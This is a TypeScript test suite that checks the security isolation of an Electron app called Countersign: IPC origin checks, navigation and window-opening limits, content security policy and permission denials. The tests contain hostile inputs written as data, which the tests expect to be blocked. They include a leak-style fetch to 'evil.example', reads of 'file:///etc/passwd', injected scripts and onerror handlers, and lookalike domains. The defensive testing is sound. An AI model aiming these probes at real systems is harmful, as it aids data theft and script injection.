// What a hostile page, frame or string could try from inside our window, and what comes of it.
import { afterEach, beforeEach, expect, test } from 'vitest'
import { requestChannel } from '../../electron/channels.ts'
import type { CountersignBridge } from '../../renderer/transport/electron.ts'
import { BrowserWindow, recorded, session, world } from '../shim/electron.ts'
import { buildPreload, type RunningApp, removeFolder, startApp, temporaryFolder } from './harness.ts'

let home: string
let running: RunningApp

beforeEach(async () => {
  home = temporaryFolder()
  running = await startApp({ home })
  await running.ready()
})
afterEach(async () => {
  await running.quit()
  removeFolder(home)
})

/** The bridge's type is the renderer's: what it expects is what is checked here. */
type Bridge = CountersignBridge | undefined

const approve = ['approvals.approve', { id: 'c1', binding: 'binding-c1' }] as const
const reached = () => running.broker.requests.map(({ method }) => method).filter((method) => method !== 'snapshot')
const refusal = { ok: false, error: { code: 'unauthorized', message: "Only Countersign's own window may ask." } }

/** What the page's own scripts see: not evaluated by the debugger, which the content security policy does not bind. */
const later = <T>(code: () => T) =>
  running.page().then((page) =>
    page.evaluate(
      (source) =>
        new Promise<string>((resolve) => {
          const run = new Function(`return (${source})()`)
          setTimeout(() => {
            try {
              resolve(String(run()))
            } catch (error) {
              resolve(String(error))
            }
          })
        }),
      String(code),
    ),
  )

test('the page gets exactly two functions', async () => {
  const page = await running.page()
  const seen = await page.evaluate(() => ({
    bridge: Object.entries((window.countersign as Bridge) ?? {}).map(([name, value]) => `${name}: ${typeof value}`),
    frozen: Object.isFrozen(window.countersign),
    node: ['require', 'process', 'module', 'electron', 'ipcRenderer'].filter((name) => name in globalThis),
  }))
  expect(seen).toEqual({ bridge: ['request: function', 'subscribe: function'], frozen: true, node: [] })
})

test('the bridge hands over the envelope alone, and stops when told', async () => {
  const page = await running.page()
  await page.evaluate(() => {
    const seen: unknown[] = []
    Object.assign(window, { seen })
    const stop = window.countersign?.subscribe((...all: unknown[]) => {
      seen.push(all)
      stop?.()
    })
  })
  running.broker.close('x')
  running.broker.close('y')
  await page.getByText('approval.closed y').waitFor()
  expect(await page.evaluate(() => (window as unknown as { seen: unknown[] }).seen)).toEqual([
    [{ seq: 1, event: { type: 'approval.closed', id: 'x', outcome: 'approved' } }],
  ])
})

test('a page of our own may ask, and the broker is told it was the desktop', async () => {
  const page = await running.page()
  await page.evaluate(([method, params]) => window.countersign?.request(method, params), approve)
  expect(running.broker.requests.at(-1)).toEqual({ method: approve[0], params: approve[1], actor: 'desktop' })
})

test('a method that is no string is refused before the broker', async () => {
  const page = await running.page()
  const reply = await page.evaluate(() =>
    window.countersign?.request({ toString: () => 'x' } as never, {}).catch(String),
  )
  expect(JSON.stringify(reply)).toMatch(/bad-params|could not be cloned/)
  const plain = await page.evaluate(() => window.countersign?.request(7 as never, {}))
  expect(plain).toMatchObject({ ok: false, error: { code: 'bad-params' } })
  expect(reached()).toEqual([])
})

test.for(['https://evil.example/', 'https://countersign/', 'app://countersign.evil.example/', 'data:text/html,x'])(
  'IPC from %s is refused and noted',
  async (url) => {
    const page = await running.page()
    world.planted.set(url, '<h1>foreign</h1>')
    // Even if some way were found to bring a foreign page into the window, bridge and all.
    await running.window().webContents.loadURL(url)
    const reply = await page.evaluate(([method, params]) => window.countersign?.request(method, params), approve)
    expect(reply).toEqual(refusal)
    expect(reached()).toEqual([])
    expect(running.log.join('\n')).toContain('Refused a request from the address')
  },
)

test('IPC from a frame inside the page is refused, even of our own origin', async () => {
  const page = await running.page()
  world.planted.set('app://countersign/outer', '<iframe src="inner"></iframe>')
  world.planted.set('app://countersign/inner', '<h1>inner</h1>')
  await running.window().webContents.loadURL('app://countersign/outer')
  const inner = page.frames().find((frame) => frame.url().endsWith('/inner'))
  const reply = await inner?.evaluate(
    ([channel, parameters]) =>
      (globalThis as unknown as { __shimInvoke(c: string, p: unknown): Promise<{ value: unknown }> }).__shimInvoke(
        channel,
        parameters,
      ),
    [requestChannel, approve] as const,
  )
  expect(reply).toEqual({ value: refusal })
  expect(reached()).toEqual([])
  expect(running.log.join('\n')).toContain('Refused a request from a frame inside the page')
})

test('IPC from another window is refused, even with our page and our preload', async () => {
  const preload = await buildPreload(home)
  const other = new BrowserWindow({ webPreferences: { preload } })
  await other.loadURL('app://countersign/')
  const page = await other.page()
  const reply = await page.evaluate(([method, params]) => window.countersign?.request(method, params), approve)
  expect(reply).toEqual(refusal)
  expect(running.log.join('\n')).toContain('Refused a request from another window')
})

test('the page cannot be led away', async () => {
  const page = await running.page()
  await page.locator('#foreign').click()
  await page.evaluate(() => {
    location.href = 'page.js'
  })
  await expect
    .poll(() => recorded.navigations)
    .toEqual([
      { url: 'https://evil.example/', isMainFrame: true, allowed: false },
      { url: 'app://countersign/page.js', isMainFrame: true, allowed: false },
    ])
  expect(running.window().webContents.getURL()).toBe('app://countersign/')
  expect(await page.getByRole('heading').textContent()).toBe('0 waiting')
})

test('the page can open no window; a listed address goes to the browser, any other nowhere', async () => {
  const page = await running.page()
  await page.locator('#blank').click()
  await page.evaluate(() => window.open('https://modelcontextprotocol.io.evil.example/'))
  await page.evaluate(() => window.open('https://modelcontextprotocol.io/?to=evil'))
  await page.evaluate(() => window.open('file:///etc/passwd'))
  await page.locator('#listed').click()
  await expect.poll(() => recorded.windowOpens.length).toBe(5)
  expect(new Set(recorded.windowOpens.map(({ action }) => action))).toEqual(new Set(['deny']))
  expect(recorded.opened).toEqual(['https://modelcontextprotocol.io/'])
  expect(BrowserWindow.getAllWindows()).toHaveLength(1)
})

test('the content security policy is there and binds', async () => {
  const page = await running.page()
  const policy = await page.evaluate(async () => (await fetch('./page.css')).headers.get('content-security-policy'))
  expect(policy).toBe(
    "default-src 'none'; script-src 'self'; style-src 'self'; font-src 'self'; img-src 'self' data:; " +
      "connect-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'",
  )
  expect(await later(() => new Function('return 1')())).toMatch(/EvalError/)
  const ran = await page.evaluate(async () => {
    const script = document.createElement('script')
    script.textContent = 'window.pwned = true'
    document.head.append(script)
    const image = document.createElement('img')
    image.setAttribute('onerror', 'window.pwned = true')
    image.src = 'data:image/png;base64,AAAA'
    const loaded = new Promise((resolve) => image.addEventListener('error', resolve))
    document.body.append(image)
    await loaded
    return 'pwned' in window
  })
  expect(ran).toBe(false)
})

test('nothing leaves the machine', async () => {
  const page = await running.page()
  const tried = await page.evaluate(() =>
    Promise.all(
      ['https://evil.example/?leak', 'http://127.0.0.1:1/', 'file:///etc/passwd'].map((url) =>
        fetch(url).then(
          () => 'reached',
          () => 'blocked',
        ),
      ),
    ),
  )
  expect(tried).toEqual(['blocked', 'blocked', 'blocked'])
})

test('every permission and device is denied', () => {
  const { permissionRequest, permissionCheck, devicePermission } = session.defaultSession
  const answers: boolean[] = []
  const ask = permissionRequest as unknown as (contents: null, name: string, answer: (yes: boolean) => void) => void
  for (const name of ['media', 'geolocation', 'notifications', 'clipboard-read', 'openExternal']) {
    ask(null, name, (yes) => answers.push(yes))
  }
  expect(answers).toEqual([false, false, false, false, false])
  expect((permissionCheck as unknown as (contents: null, name: string) => boolean)(null, 'media')).toBe(false)
  expect((devicePermission as unknown as (details: object) => boolean)({ deviceType: 'usb' })).toBe(false)
})

test('the window is sandboxed and isolated', () => {
  expect(running.window().options.webPreferences).toMatchObject({
    contextIsolation: true,
    sandbox: true,
    nodeIntegration: false,
    webviewTag: false,
    spellcheck: false,
  })
  let prevented = false
  running.window().webContents.emit('will-attach-webview', {
    preventDefault: () => {
      prevented = true
    },
  })
  expect(prevented).toBe(true)
})
